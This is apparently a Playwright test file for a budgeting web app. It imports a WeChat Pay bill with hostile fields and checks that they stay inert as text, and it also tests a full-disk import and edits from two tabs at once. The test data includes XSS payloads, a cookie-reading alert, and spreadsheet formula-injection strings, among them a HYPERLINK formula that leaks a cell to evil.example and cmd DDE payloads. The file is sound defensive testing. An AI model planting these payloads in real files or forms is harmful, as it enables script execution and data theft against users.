/**
 * Bill files are written by others: a merchant's name in an Alipay or WeChat bill is whatever the
 * merchant typed. An imported bill full of HTML, javascript: addresses and spreadsheet formulas
 * must stay text everywhere: nothing runs in the page, the CSV export neutralises the formulas for
 * spreadsheet programs, and the .ics export escapes them for calendar programs. Also here: an
 * import that hits a full disk, and two tabs editing the same account.
 */
import { readFileSync } from 'node:fs';
import ICAL from 'ical.js';
import { addCashAccount as addAccount, expect, test, type Page } from './fixtures';

const HTML_PAYEE = '<img src=x onerror="window.__pwned=1">商户';
const SCRIPT_NOTE = '<script>window.__pwned=3</script>';
const JS_URL = 'javascript:window.__pwned=2';
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1;"点我")', "+cmd|' /C calc'!A0", '-2+3+cmd|A0', '@SUM(1+1)*cmd|A0'];

/** A WeChat Pay CSV bill (the pre-2025 layout) whose text fields are hostile. */
function hostileWechatBill(): string {
  const lead = [
    '微信支付账单明细,,,,,,,,,,',
    '微信昵称：[小明],,,,,,,,,,',
    '起始时间：[2026-09-01 00:00:00] 终止时间：[2026-09-30 23:59:59],,,,,,,,,,',
    '导出类型：[全部],,,,,,,,,,',
    '导出时间：[2026-10-01 09:00:00],,,,,,,,,,',
    ',,,,,,,,,,',
    '共6笔记录,,,,,,,,,,',
    ',,,,,,,,,,',
    '----------------------微信支付账单明细列表--------------------,,,,,,,,,,',
    '交易时间,交易类型,交易对方,商品,收/支,金额(元),支付方式,当前状态,交易单号,商户单号,备注',
  ];
  const quote = (text: string) => `"${text.replace(/"/g, '""')}"`;
  const rows = [
    ['2026-09-01 07:58:00', '商户消费', HTML_PAYEE, JS_URL, '支出', '¥6.50', '零钱', '支付成功', '4200001001202609010001\t', '10001\t', SCRIPT_NOTE],
    ...FORMULAS.map((formula, i) => ['2026-09-0' + (i + 2) + ' 12:00:00', '商户消费', formula, '商品', '支出', `¥1${i}.00`, '零钱', '支付成功', `420000100120260901000${i + 2}\t`, `1000${i + 2}\t`, '/']),
    ['2026-09-09 09:00:00', '商户消费', 'javascript:alert(document.cookie)', '<a href="javascript:window.__pwned=4">点这里</a>', '支出', '¥8.00', '零钱', '支付成功', '4200001001202609010009\t', '10009\t', '/'],
  ];
  return `${[...lead, ...rows.map((row) => row.map(quote).join(','))].join('\n')}\n`;
}

/** Nothing ran: no flag set by a payload, no element or address a payload would need. */
async function expectNothingRan(page: Page) {
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(await page.locator('script:not([src])').count()).toBe(0);
  expect(await page.locator('a[href^="javascript:" i], [href*="evil.example"], [src*="evil.example"]').count()).toBe(0);
}

test('a bill with HTML, javascript: addresses and formulas imports as text; the CSV export neutralises formulas and the .ics escapes them', async ({ page }, testInfo) => {
  await addAccount(page, 'WeChat balance');
  await page.goto('/#/transactions/import');
  await page.getByLabel('Import into account').selectOption({ label: 'WeChat balance (CNY)' });
  await page.getByLabel('Bill file').setInputFiles({ name: 'wechat-hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(hostileWechatBill(), 'utf8') });
  await expect(page.getByLabel('Format')).toContainText('Detected: WeChat Pay');
  const table = page.getByRole('table', { name: 'Preview' });
  await expect(table).toContainText(HTML_PAYEE);
  await expect(table).toContainText(FORMULAS[0]!);
  await expectNothingRan(page);
  await page.getByRole('button', { name: 'Import 6 transactions' }).click();
  await expect(page.getByRole('status').filter({ hasText: '6 transactions imported from wechat-hostile.csv' })).toBeVisible();

  await page.goto('/#/transactions');
  const list = page.getByRole('table', { name: 'Transactions' });
  await expect(list).toContainText(HTML_PAYEE);
  for (const formula of FORMULAS) await expect(list).toContainText(formula);
  await expect(list).toContainText('javascript:alert(document.cookie)');
  await expectNothingRan(page);
  // The editor shows the note as text too.
  await list.getByText(HTML_PAYEE).first().click();
  await expectNothingRan(page);

  await page.goto('/#/transactions');
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const csvPath = testInfo.outputPath('transactions.csv');
  await (await download).saveAs(csvPath);
  const csv = readFileSync(csvPath, 'utf8');
  // Every cell a spreadsheet would run (=, +, -, @ first) starts with an apostrophe; amounts are numbers and untouched.
  const cells = csv.replace(/^\ufeff/, '').split(/\r?\n/).flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? []).map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'));
  const risky = cells.filter((cell) => /^[=+@]/.test(cell) || (/^-/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell)));
  expect(risky).toEqual([]);
  for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
  expect(cells).toContain('-6.50');

  // The .ics: a recurring bill named with the same kinds of text.
  await page.goto('/#/budget/bills');
  await page.getByRole('button', { name: 'Add bill' }).first().click();
  const form = page.getByRole('form', { name: 'Add a recurring bill' });
  const billName = '=HYPERLINK("x");<b>Rent</b>, 房租';
  await form.getByLabel('Bill name').fill(billName);
  await form.getByLabel('Amount').fill('3200');
  await form.getByLabel('Next due date').fill('2026-12-20');
  await form.getByRole('button', { name: 'Save' }).click();
  await expect(form).toBeHidden();
  await page.goto('/#/calendar');
  const ics = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export to calendar (.ics)' }).click();
  const icsPath = testInfo.outputPath('dues.ics');
  await (await ics).saveAs(icsPath);
  const text = readFileSync(icsPath, 'utf8');
  // Escaped as RFC 5545 wants, unfolded: the comma and the semicolon carry a backslash.
  const unfolded = text.replace(/\r\n[ \t]/g, '');
  expect(unfolded).toContain('SUMMARY:=HYPERLINK("x")\\;<b>Rent</b>\\, 房租');
  expect(/\r(?!\n)/.test(text)).toBe(false);
  const events = new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent').map((event) => new ICAL.Event(event));
  expect(events.some((event) => event.summary.startsWith(`${billName}:`))).toBe(true);
  await expectNothingRan(page);
});

test('an import that meets a full disk says so in words and writes nothing', async ({ page }) => {
  await addAccount(page, 'WeChat balance');
  await page.goto('/#/transactions/import');
  await page.getByLabel('Import into account').selectOption({ label: 'WeChat balance (CNY)' });
  await page.getByLabel('Bill file').setInputFiles({ name: 'wechat.csv', mimeType: 'text/csv', buffer: Buffer.from(hostileWechatBill(), 'utf8') });
  await expect(page.getByRole('button', { name: 'Import 6 transactions' })).toBeEnabled();
  // From here every write is refused as a full disk refuses it.
  await page.evaluate(() => {
    const refuse = () => {
      throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
    };
    IDBObjectStore.prototype.add = refuse;
    IDBObjectStore.prototype.put = refuse;
  });
  await page.getByRole('button', { name: 'Import 6 transactions' }).click();
  await expect(page.getByRole('alert').filter({ hasText: 'The disk is full, so nothing was saved. Free some disk space and try again; your earlier data is safe.' })).toBeVisible();
  await expect(page.getByText('QuotaExceededError')).toHaveCount(0);
  await page.reload();
  const count = await page.evaluate(
    () =>
      new Promise<number>((resolve, reject) => {
        const request = indexedDB.open('clearday');
        request.onsuccess = () => {
          const counting = request.result.transaction('transactions').objectStore('transactions').count();
          counting.onsuccess = () => resolve(counting.result);
          counting.onerror = () => reject(counting.error);
        };
        request.onerror = () => reject(request.error);
      }),
  );
  expect(count).toBe(0);
});

test('two tabs edit the same account: each keeps the other\'s change, and the same field changed twice is named, not overwritten', async ({ page, context }) => {
  await addAccount(page, 'Cash');
  const other = await context.newPage();
  await other.goto('/#/accounts');
  // This tab opens the form first.
  await page.goto('/#/accounts');
  await page.getByRole('button', { name: 'Edit Cash' }).click();
  const form = page.getByRole('form', { name: 'Edit account' });
  await expect(form.getByLabel('Account name')).toHaveValue('Cash');
  // Meanwhile the other tab renames it.
  await other.getByRole('button', { name: 'Edit Cash' }).click();
  const otherForm = other.getByRole('form', { name: 'Edit account' });
  await otherForm.getByLabel('Account name').fill('Cash in the drawer');
  await otherForm.getByRole('button', { name: 'Save' }).click();
  await expect(otherForm).toBeHidden();
  // This tab only adds a note: the rename survives.
  await form.getByLabel('Note').fill('for the market');
  await form.getByRole('button', { name: 'Save' }).click();
  await expect(form).toBeHidden();
  await expect(page.getByRole('row', { name: /Cash in the drawer/ })).toBeVisible();
  await page.getByRole('button', { name: 'Edit Cash in the drawer' }).click();
  await expect(form.getByLabel('Account name')).toHaveValue('Cash in the drawer');
  await expect(form.getByLabel('Note')).toHaveValue('for the market');

  // Both change the name: the second save says so and keeps the first.
  await other.reload();
  await other.getByRole('button', { name: 'Edit Cash in the drawer' }).click();
  await other.getByRole('form', { name: 'Edit account' }).getByLabel('Account name').fill('Wallet');
  await other.getByRole('form', { name: 'Edit account' }).getByRole('button', { name: 'Save' }).click();
  await expect(other.getByRole('form', { name: 'Edit account' })).toBeHidden();
  await form.getByLabel('Account name').fill('Petty cash');
  await form.getByRole('button', { name: 'Save' }).click();
  await expect(form.getByRole('alert')).toHaveText(/this item was changed elsewhere \(another window or tab\) in the same fields\. Nothing was saved/);
  await form.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('row', { name: /Wallet/ })).toBeVisible();
  await expect(page.getByRole('row', { name: /Petty cash/ })).toHaveCount(0);
  await other.close();
});
